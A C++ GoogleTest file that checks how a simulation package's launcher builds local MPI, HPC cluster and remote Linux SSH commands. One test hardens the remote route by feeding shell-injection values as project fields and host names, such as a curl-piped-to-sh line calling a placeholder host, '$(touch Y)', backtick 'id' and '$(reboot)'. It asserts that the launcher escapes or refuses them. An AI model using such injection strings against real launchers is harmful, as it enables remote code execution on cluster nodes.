// Tests of the launch routes: the local route, the cluster-job route and the remote Linux route.
#include <gtest/gtest.h>

#include "CompanionFakes.h"
#include "LaunchFixture.h"
#include "RemoteCommands.h"
#include "launch/StorageNode.h"
#include "zep3d/ZEPTools.h"

namespace {

using zep::fakes::CallsOf;
using zep::testing::MachineBlock;
using zep::testing::StdoutCapture;
using zep::testing::TaskBlock;

const char kLocalKeys[] = "ValueShareFolderName=Work\nValueLocalHost=PC01\nValueSharedTarvik3DName=App\n";

class LaunchDispatch : public zep::testing::LaunchTest {};

TEST_F(LaunchDispatch, SingleMachineArgumentsQuoteTheSolverAndFollowTheConfigurationText) {
    ASSERT_EQ(SetUpRun(TaskBlock(0, 1)), 0);
    zep::fakes::ScriptConfigurationString(L"-wdir \"X\"");
    EXPECT_EQ(Execute(), -1);
    EXPECT_EQ(handler_->m_sPPPName, "-wdir \"X\" -localonly -np 1 \"" + install_ + "\\Bin\\solver.exe\" " +
                                        std::string(kCommandLine));
    EXPECT_EQ(handler_->m_nRemoteHost, 0);

    // An empty configuration text leaves the blank that opens the options; a solver path with blanks
    // stays one argument.
    install_ = run_.temp().path() + "/My Install/";
    ASSERT_EQ(SetUpRun(TaskBlock(0, 4)), 1);
    Execute();
    EXPECT_EQ(handler_->m_sPPPName,
              " -localonly -np 4 \"" + install_ + "\\Bin\\solver.exe\" " + std::string(kCommandLine));
    EXPECT_EQ(OnlyCall("CZEPNetSession::SpawnMPIProcess"),
              (std::vector<std::string>{install_ + "Bin\\IntelMPI\\impiexec.exe", handler_->m_sPPPName, "0",
                                        run_.runPath(), "1", "0"}));
}

TEST_F(LaunchDispatch, SeveralMachinesUseTheLauncherFileAndCountTheMachines) {
    ASSERT_EQ(SetUpRun(TaskBlock(1, 3, "ValueConsoleRedirection=1\n") +
                       MachineBlock({"PC01 2 C:\\App\\", "PC02 1 C:\\App\\"}, {"1", "1"}, kLocalKeys)),
              2);
    Execute();
    EXPECT_EQ(handler_->m_sPPPName, "-configfile \"" + run_.RunFile(".pwf") + "\"");
    EXPECT_EQ(handler_->m_nRemoteHost, 2);
    EXPECT_EQ(OnlyCall("CZEPNetSession::SpawnMPIProcess"),
              (std::vector<std::string>{install_ + "Bin\\IntelMPI\\impiexec.exe", handler_->m_sPPPName, "2",
                                        run_.runPath(), "0", "1"}));
    // Rebuilt from the fields, not from the previous string.
    Execute();
    EXPECT_EQ(handler_->m_sPPPName, "-configfile \"" + run_.RunFile(".pwf") + "\"");
}

TEST_F(LaunchDispatch, AccountPreparationIsTriedUntilItWorksAtMostTenTimes) {
    ASSERT_EQ(SetUpRun(TaskBlock(0, 2)), 1);
    const std::pair<std::vector<int>, size_t> cases[] = {
        {std::vector<int>(20, 1), 10}, {{1, 1, 0, 1}, 3}, {{}, 1}};
    for (const auto& c : cases) {
        zep::fakes::Reset();
        zep::fakes::ScriptResults("CZEPMPITool::ConvertAcc2RegistryForIntelMPI", c.first);
        Execute();
        const auto tries = CallsOf("CZEPMPITool::ConvertAcc2RegistryForIntelMPI");
        ASSERT_EQ(tries.size(), c.second);
        EXPECT_EQ(tries[0].args, (std::vector<std::string>{install_, "0"}));
        EXPECT_EQ(CallsOf("CZEPNetSession::SpawnMPIProcess").size(), 1u);
    }
}

TEST_F(LaunchDispatch, AnUnknownTaskModeStartsNothing) {
    SetUpRun(TaskBlock(5, 2) + MachineBlock({"node1 2 /opt/T/"}, {"1"}, kLocalKeys));
    StdoutCapture out;
    EXPECT_EQ(Execute(), -1);
    out.Stop();
    for (const auto& call : zep::fakes::Calls()) {
        EXPECT_TRUE(call.name.rfind("CZEPUnicodeTool", 0) == 0 ||
                    call.name.rfind("CZEPMPITool::GetIntel", 0) == 0)
            << call.name;
    }
    EXPECT_EQ(handler_->m_nRemoteHost, 1);
    EXPECT_EQ(handler_->m_iStatus, -3307);
}

TEST_F(LaunchDispatch, TracesAtLevelTwoAndNothingBelow) {
    const std::string cmx = TaskBlock(13, 2) + MachineBlock({"A 2 \\\\S\\App\\"}, {"1"}, kLocalKeys);
    WriteAccount("u", "p");
    SetUpRun(cmx, 1);
    EXPECT_EQ(ExecutePrinted(), "");
    SetUpRun(cmx, 2);
    EXPECT_EQ(ExecutePrinted(), Golden("dispatch_trace.txt"));

    SetUpRun(TaskBlock(0, 2), 2);
    EXPECT_EQ(Printed([&] { handler_->SetProcessCleaner(); }),
              "\n======In CommandHandler::SetProcessCleaner======\n");
}

TEST_F(LaunchDispatch, FacadeLaunchOperationsKeepTheSetUpStatus) {
    CZEPTools tools;
    long jobId = 7;
    EXPECT_EQ(tools.ExecuteCommand(jobId), -3300);
    EXPECT_EQ(jobId, -1);
    EXPECT_EQ(tools.WaitCommand(), -3300);

    run_.WriteCmx(TaskBlock(1, 1) +
                  MachineBlock({"PC01 1 C:\\App\\"}, {"1"},
                               std::string(kLocalKeys) + "ValueParallelWorkingFolder=E:\\Other\n"));
    EXPECT_EQ(tools.SetCommand(0, kCommandLine, install_.c_str(), run_.projectDir().c_str(), "Part",
                               "solver.exe", "01", 0),
              -3306);
    zep::fakes::Reset();
    EXPECT_EQ(tools.ExecuteCommand(jobId), -3306);
    EXPECT_EQ(jobId, -1);
    EXPECT_EQ(tools.WaitCommand(), -3306);
    EXPECT_TRUE(CallsOf("CZEPHpcTool::HPC_GetJobInfo").empty());
}

const char kHpcKeys[] =
    "ValueShareFolderName=Work\nValueLocalHost=HEAD\nValueSharedTarvik3DName=App\n"
    "ValueParallelWorkingFolder=";

class HpcJob : public zep::testing::LaunchTest {
  protected:
    // The arguments of the one HPC_CreateJob call: user, password, name, mode, node count, names,
    // counts, solver, arguments, folder, stdout file, stderr file, scheduler.
    static std::vector<std::string> JobArguments() { return OnlyCall("CZEPHpcTool::HPC_CreateJob", 13); }
    static std::vector<std::string> Nodes() {
        const auto args = JobArguments();
        return std::vector<std::string>(args.begin() + 4, args.begin() + 7);
    }
    std::string Folder(const std::string& workingFolder) { return kHpcKeys + workingFolder + "\n"; }
};

TEST_F(HpcJob, SingleNodeJobRunsEveryTaskOnTheLocalNode) {
    WriteAccount("runner", "secret");
    ASSERT_EQ(SetUpRun(TaskBlock(12, 8)), 1);
    zep::fakes::ScriptJobId(42);
    StdoutCapture out;
    EXPECT_EQ(Execute(), 42);
    EXPECT_EQ(out.Stop(), "");
    EXPECT_EQ(JobArguments(),
              (std::vector<std::string>{"runner", "secret", "Tarvik3D HPC Job - solver.exe", "0", "1",
                                        "127.0.0.1", "8", install_ + "\\Bin\\solver.exe", kCommandLine,
                                        run_.runPath(), run_.runPath() + "\\zephpc_stdout.txt",
                                        run_.runPath() + "\\zephpc_stderr.txt", "localhost"}));
    EXPECT_EQ(handler_->m_sHPCNodeName, "127.0.0.1");
    EXPECT_EQ(handler_->m_lJobID, 42);
}

TEST_F(HpcJob, ConsecutiveTasksOfOneHostFormANode) {
    SetUpRun(TaskBlock(13, 5) + MachineBlock({"A 2 C:\\App\\", "B 3 C:\\App\\"}, {"1", "1"}, Folder("")));
    Execute();
    const auto args = JobArguments();
    EXPECT_EQ(args[3], "1");
    EXPECT_EQ(Nodes(), (std::vector<std::string>{"2", "A,B", "2,3"}));
    EXPECT_EQ(args[7], "\\\\HEAD\\App\\Bin\\solver.exe");
    EXPECT_EQ(handler_->m_sHPCNodeName, "A");

    SetUpRun(TaskBlock(13, 3) +
             MachineBlock({"A 1 C:\\", "B 1 C:\\", "A 1 C:\\"}, {"1", "1", "1"}, Folder("")));
    Execute();
    EXPECT_EQ(Nodes(), (std::vector<std::string>{"3", "A,B,A", "1,1,1"}));

    // Unclaimed entries stay empty; a table that the hosts outgrow is widened, and long names pass whole.
    const std::string longName(40, 'n');
    SetUpRun(TaskBlock(13, 4) + MachineBlock({"A 2 C:\\", longName + " 1 C:\\"}, {"1", "1"}, Folder("")));
    handler_->m_ppTaskHostName = {"A", "B", "A", longName};
    Execute();
    EXPECT_EQ(Nodes(), (std::vector<std::string>{"4", "A,B,A," + longName, "1,1,1,1"}));
}

TEST_F(HpcJob, OutputFolderMovesToTheShareOrToTheSystemTemporaryFolder) {
    const std::string runPath = run_.runPath();
    const struct {
        std::string workingFolder, output;
    } cases[] = {{run_.temp().path(), "\\\\HEAD\\Work" + runPath.substr(run_.temp().path().size())},
                 {"Q:\\Elsewhere", "C:\\Windows\\Temp"},
                 {"", "\\\\HEAD\\Work" + runPath}};
    for (const auto& c : cases) {
        SetUpRun(TaskBlock(13, 1) + MachineBlock({"A 1 C:\\"}, {"1"}, Folder(c.workingFolder)));
        Execute();
        EXPECT_EQ(handler_->m_sHPCOutputFolder, c.output);
        const auto args = JobArguments();
        EXPECT_EQ(args[10], c.output + "\\zephpc_stdout.txt");
        EXPECT_EQ(args[11], c.output + "\\zephpc_stderr.txt");
    }
}

TEST_F(HpcJob, MissingAccountAndFailingSubmissionAreReported) {
    SetUpRun(TaskBlock(12, 2));
    zep::fakes::ScriptResults("CZEPHpcTool::HPC_CreateJob", {-17});
    StdoutCapture out;
    EXPECT_EQ(Execute(), -1);
    EXPECT_EQ(out.Stop(),
              "Get password information from acc.ini failed.\nCZEPHpcTool::HPC_CreateJob() failed. (-17)\n");
    const auto args = JobArguments();
    EXPECT_EQ(args[0] + args[1], "") << "no user and no password";
    EXPECT_EQ(handler_->m_lJobID, -1);
    EXPECT_EQ(Printed([&] { handler_->WaitHPCJob(); }), "");
    EXPECT_TRUE(CallsOf("CZEPHpcTool::HPC_GetJobInfo").empty());
}

TEST_F(HpcJob, WaitPrintsTheSummariesAndStopsAtAFailure) {
    WriteAccount("u", "p");
    SetUpRun(TaskBlock(12, 2));
    zep::fakes::ScriptJobId(9);
    Execute();
    const struct {
        const char* failing;  // the operation of the cluster job companion that fails, with its results
        std::vector<int> results;
        size_t waits;
        const char* printed;
    } cases[] = {
        {"", {}, 1, "Job 9 started\nJob 9 ended\n"},
        {"HPC_GetJobInfo", {3}, 0, "CZEPHpcTool::HPC_GetJobInfo() failed. (3)\n"},
        {"HPC_WaitJobToFinish", {-5}, 1, "Job 9 started\nCZEPHpcTool::HPC_WaitJobToFinish() failed. (-5)\n"},
        {"HPC_GetJobInfo",
         {0, 4},
         1,
         "Job 9 started\nCZEPHpcTool::HPC_GetJobInfo() failed. (4)\nJob 9 ended\n"},
    };
    for (const auto& c : cases) {
        zep::fakes::Reset();
        zep::fakes::ScriptResults(std::string("CZEPHpcTool::") + c.failing, c.results);
        EXPECT_EQ(Printed([&] { handler_->WaitHPCJob(); }), c.printed);
        const auto waits = CallsOf("CZEPHpcTool::HPC_WaitJobToFinish");
        ASSERT_EQ(waits.size(), c.waits) << c.printed;
        for (const auto& wait : waits)
            EXPECT_EQ(wait.args, (std::vector<std::string>{"9", run_.runPath(), "127.0.0.1", "localhost"}));
    }
}

const char kLinuxKeys[] = "ValueSharedTarvik3DName=/opt/Tarvik3D/\nValueParallelWorkingFolder=D:\\Work\n";

class RemoteLinuxRun : public zep::testing::LaunchTest {
  protected:
    void SetUp() override {
        LaunchTest::SetUp();
        WriteAccount("runner", "secret");
    }

    // A run over two machines whose project folder, home folder (the installation share), command line
    // and program name are the given ones.
    void SetUpNamedRun(const std::string& projectName, const std::string& home,
                       const std::string& commandLine, const std::string& exe) {
        const std::string keys =
            "ValueSharedTarvik3DName=" + home + "\nValueParallelWorkingFolder=D:\\Work\n";
        ASSERT_EQ(
            SetUpRun(TaskBlock(11, 2) + MachineBlock({"alpha 1 /opt/T/", "beta 1 /opt/T/"}, {"1", "1"}, keys),
                     0, commandLine, exe, projectName),
            2);
    }

    static std::vector<std::string> RemoteCommands() {
        std::vector<std::string> commands;
        for (const auto& call : zep::fakes::Calls()) {
            if (call.name.find("SSH2_RemoteCommand") != std::string::npos) commands.push_back(call.args[3]);
        }
        return commands;
    }

    zep::testing::FixedClock clock_{zep::platform::LocalTime{2026, 12, 6, 9, 8, 7}};
};

TEST_F(RemoteLinuxRun, TwoHostsBootTheRingWriteTheMachineFileAndLaunch) {
    ASSERT_EQ(SetUpRun(TaskBlock(11, 4) +
                       MachineBlock({"alpha 2 /opt/T/", "beta 2 /opt/T/"}, {"1", "1"}, kLinuxKeys)),
              2);
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"alpha\nbeta\n");
    StdoutCapture out;
    EXPECT_EQ(Execute(), -1);
    EXPECT_EQ(out.Stop() + "----\n" + CallLog("CZEPSSH2Tool"), Golden("two_hosts.txt"));
    EXPECT_EQ(handler_->m_sMPIName, "/opt/Tarvik3D//IntelMPI/mpiexec.py");
    EXPECT_EQ(std::string(handler_->m_szUserName), "runner");
    // The password is wiped when the route ends.
    EXPECT_EQ(std::string(handler_->m_szPassword), "");
}

TEST_F(RemoteLinuxRun, TracesEveryStepAtLevelTwo) {
    const std::string keys = "ValueSharedTarvik3DName=/opt/T/\nValueMinPort=20000\nValueMaxPort=20100\n";
    SetUpRun(TaskBlock(11, 1) + MachineBlock({"n1 1 /opt/T/"}, {"1"}, keys), 2);
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"n1\n");
    zep::fakes::ScriptLauncherExitCode(3);
    handler_->m_bConsoleRedirection = true;
    StdoutCapture out;
    long jobId = 0;
    handler_->SpawnMPIProcess(jobId);
    EXPECT_EQ(out.Stop() + "----\n" + CallLog("CZEPSSH2Tool"), Golden("traced_steps.txt"));
}

TEST_F(RemoteLinuxRun, FailuresArePrintedBelowLevelTwoAndTheStepsGoOn) {
    SetUpRun(TaskBlock(11, 4) +
             MachineBlock({"node1 2 /opt/T/", "node10 2 /opt/T/"}, {"1", "1"}, kLinuxKeys));
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {-6});
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_RemoteCommandStdoutStderr", {0, 7});
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node1\n");
    EXPECT_EQ(ExecutePrinted(),
              "Authentication for password failed.\n"
              "SSH2_RemoteCommandStdoutStderr(set MPD_PORT_RANGE to ~/.mpd.conf) failed, iErr=7\n"
              "Check mpd of [node10] ... Failed!\n");
    EXPECT_EQ(RemoteCommands().size(), 11u);

    // node1 passes when the trace output names only node10 (a plain substring test).
    zep::fakes::Reset();
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node10\n");
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {-2});
    EXPECT_EQ(ExecutePrinted(), "Connect to SSH server at node1 failed.\n");

    const struct {
        int code;
        const char* text;
    } codes[] = {{-1, "Fail to initialize libssh2.\n"},
                 {-3, "Fail to establish SSH session.\n"},
                 {-4, "Authentication method (using password) is not available.\n"},
                 {-5, "Fail to request PTY.\n"},
                 {-7, "Fail to open a session.\n"},
                 {-8, "Fail to request a shell.\n"},
                 {-9, "SSH2_CheckConnection failed, but the symptom is unknown.\n"},
                 {4, "SSH2_CheckConnection failed, but the symptom is unknown.\n"}};
    for (const auto& c : codes) {
        zep::fakes::Reset();
        zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node1 node10");
        zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {c.code});
        EXPECT_EQ(Printed([&] { handler_->BootMPDRing(); }), c.text);
    }
}

// Every way a value of the project reaches the node's shell: each command must read as the designed
// words with the value as plain text in them, and nothing may run.
TEST_F(RemoteLinuxRun, NoValueOfTheProjectReachesTheRemoteShellAsCode) {
    const std::string line = "\"C:\\App\\*D:\\Work\\P*\"";
    const struct {
        const char* path;
        std::string project, home, commandLine, exe, configuration;
    } cases[] = {
        {"home folder", "P", "/opt/T;curl -s http://x.example/p|sh;#", line, "solver.exe", ""},
        {"home folder", "P", "/opt/a b$(touch Y)'q'`id`\\", line, "solver.exe", ""},
        {"project folder", "a`touch X`", "/opt/T", line, "solver.exe", ""},
        {"project folder", "a$(touch Y)", "/opt/T", line, "solver.exe", ""},
        {"project folder", "R&D", "/opt/T", line, "solver.exe", ""},
        {"project folder", "Tom's", "/opt/T", line, "solver.exe", ""},
        {"project folder", "x\"y;z $HOME", "/opt/T", line, "solver.exe", ""},
        {"command line", "P", "/opt/T", line + " $HOME \"a b\" 'q' R&D x;y \\\"in\\\" c:\\d\\ `id`",
         "solver.exe", ""},
        {"program name", "P", "/opt/T", line, "sol ver$(touch Z).exe", ""},
        {"launcher configuration", "P", "/opt/T", line, "solver.exe", "-wdir \"/r/a$(touch W) `id`\" "},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(std::string(c.path) + ": " + c.project + " | " + c.home + " | " + c.commandLine + " | " +
                     c.exe);
        // Windows has no folder names with a double quote, so no such project reaches the node from there.
        if (zep::testing::TextLineEnd() == "\r\n" && c.project.find('"') != std::string::npos) continue;
        zep::fakes::Reset();
        zep::fakes::ScriptConfigurationString(std::wstring(c.configuration.begin(), c.configuration.end()));
        SetUpNamedRun(c.project, c.home, c.commandLine, c.exe);
        EXPECT_EQ(ExecutePrinted(), "Check mpd of [alpha] ... Failed!\nCheck mpd of [beta] ... Failed!\n");
        const auto commands = RemoteCommands();
        EXPECT_EQ(commands.size(), 11u);
        EXPECT_EQ(zep::testing::CheckRemoteCommands(*handler_, commands), "");
    }

    // A host name, or a home folder that is no folder on the node, stops the route before any remote step.
    const struct {
        std::string host, home, why;
    } refused[] = {
        {"a$(reboot)", "/opt/T", "a valid host name"},   {"x;y", "/opt/T", "a valid host name"},
        {"b\"c", "/opt/T", "a valid host name"},         {"beta", "opt/T", "an absolute POSIX path"},
        {"beta", "C:\\App\\", "an absolute POSIX path"}, {"beta", "", "an absolute POSIX path"}};
    for (const auto& c : refused) {
        SetUpNamedRun("P", c.home, line, "solver.exe");
        handler_->m_ppTaskHostName[1] = c.host;
        handler_->m_sLinZep3DHomeDir = c.home;
        const std::string value = c.host != "beta" ? c.host : c.home;
        EXPECT_EQ(ExecutePrinted(), "BootMPDRing() failed: [" + value + "] is not " + c.why +
                                        "; the MPD ring is not booted.\nSpawnLinuxMPIProcess() failed: [" +
                                        value + "] is not " + c.why + "; the run is not started.\n");
        EXPECT_EQ(CallLog("CZEPSSH2Tool"), "");
    }
}

TEST_F(RemoteLinuxRun, LongHostListsAreSentWhole) {
    std::vector<std::string> entries, weights(120, "1");
    std::string expectedHosts;
    for (int i = 0; i < 120; ++i) {
        entries.push_back("node-with-a-rather-long-host-name-" + std::to_string(i) + " 1 /opt/T/");
        expectedHosts += "node-with-a-rather-long-host-name-" + std::to_string(i) + "\\r\\n";
    }
    SetUpRun(TaskBlock(11, 120) + MachineBlock(entries, weights, kLinuxKeys));
    Execute();
    const auto commands = RemoteCommands();
    EXPECT_EQ(commands.at(4), "echo -e \"" + expectedHosts + "\" > \"/tmp/mpdhosts_20261206_090807.txt\"");
    EXPECT_EQ(commands.at(5).find("/opt/ZEPParallelService/IntelMPI/mpdboot.py -n 120 "), 0u);
    EXPECT_EQ(commands.at(9),
              "echo -e \"" + expectedHosts + "\" > \"" + handler_->m_sLinRunPath + "/machines.txt\"");

    // A host list that changes host more often than there are machines widens the ring's host table.
    SetUpRun(TaskBlock(11, 4) + MachineBlock({"a 2 /opt/T/", "b 2 /opt/T/"}, {"1", "1"}, kLinuxKeys));
    handler_->m_ppTaskHostName = {"a", "b", "a", "b"};
    Execute();
    EXPECT_EQ(RemoteCommands().at(4),
              "echo -e \"a\\r\\nb\\r\\na\\r\\nb\\r\\n\" > \"/tmp/mpdhosts_20261206_090807.txt\"");
    EXPECT_EQ(RemoteCommands().at(5).find("/opt/ZEPParallelService/IntelMPI/mpdboot.py -n 4 "), 0u);
}

TEST(StorageNode, HostNamesAndEscapes) {
    EXPECT_EQ(zep::launch::EscapeShellWord("/opt/Tarvik3D/IntelMPI/mpdboot.py"),
              "/opt/Tarvik3D/IntelMPI/mpdboot.py");
    EXPECT_EQ(zep::launch::EscapeShellWord("/a b;c\n"), "/a\\ b\\;c'\n'");
    const std::string plain =
        "-wdir /r -machinefile \"/Z/P/machines.txt\" -n 2  \"/opt/T/s.exe\" \"/opt/T*/Z/P*\" x";
    EXPECT_EQ(zep::launch::ShellLauncherArguments(plain), plain);
    EXPECT_EQ(zep::launch::ShellLauncherArguments("\"a\"\"b\" \\$x c\\"), "\"a\\\"b\" \"\\$x\" \"c\\\\\"");
    EXPECT_TRUE(zep::launch::IsValidHostName("Zone-09.a_Az"));  // every end of every character range
    for (const char* bad : {"", "a b", "h\xc3\xa9"}) EXPECT_FALSE(zep::launch::IsValidHostName(bad)) << bad;
    EXPECT_EQ(zep::launch::EscapeForDoubleQuotes("plain/path"), "plain/path");
    EXPECT_EQ(zep::launch::EscapeForDoubleQuotes("\"$`\\"), "\\\"\\$\\`\\\\");
}

// The first value that may not reach the node's shell stops the remote steps and is named.
TEST(StorageNode, RemoteTargetsNeedAStorageNodeValidHostsAndAnAbsoluteFolder) {
    const std::string host = "op failed: [%] is not a valid host name; not done.\n";
    const std::string path = "op failed: [%] is not an absolute POSIX path; not done.\n";
    struct Case {
        std::vector<std::string> hosts;
        std::string folder, printed, value;
    } cases[] = {{{"a", "", "b"}, "/opt/T/", "", ""},  // a task that no machine claimed has no host
                 {{}, "/opt/T/", host, ""},
                 {{"", "b"}, "/opt/T/", host, ""},
                 {{"a;b", "c d"}, "opt/", host, "a;b"},
                 {{"a", "", "c d"}, "opt/", host, "c d"},
                 {{"a"}, "opt/", path, "opt/"}};
    for (const Case& c : cases) {
        StdoutCapture out;
        const bool passed = zep::launch::CheckRemoteTargets(c.hosts, c.folder, "op", "not done");
        std::string expected = c.printed;
        if (!expected.empty()) expected.replace(expected.find('%'), 1, c.value);
        EXPECT_EQ(out.Stop(), expected) << c.folder;
        EXPECT_EQ(passed, expected.empty());
    }
}

}  // namespace
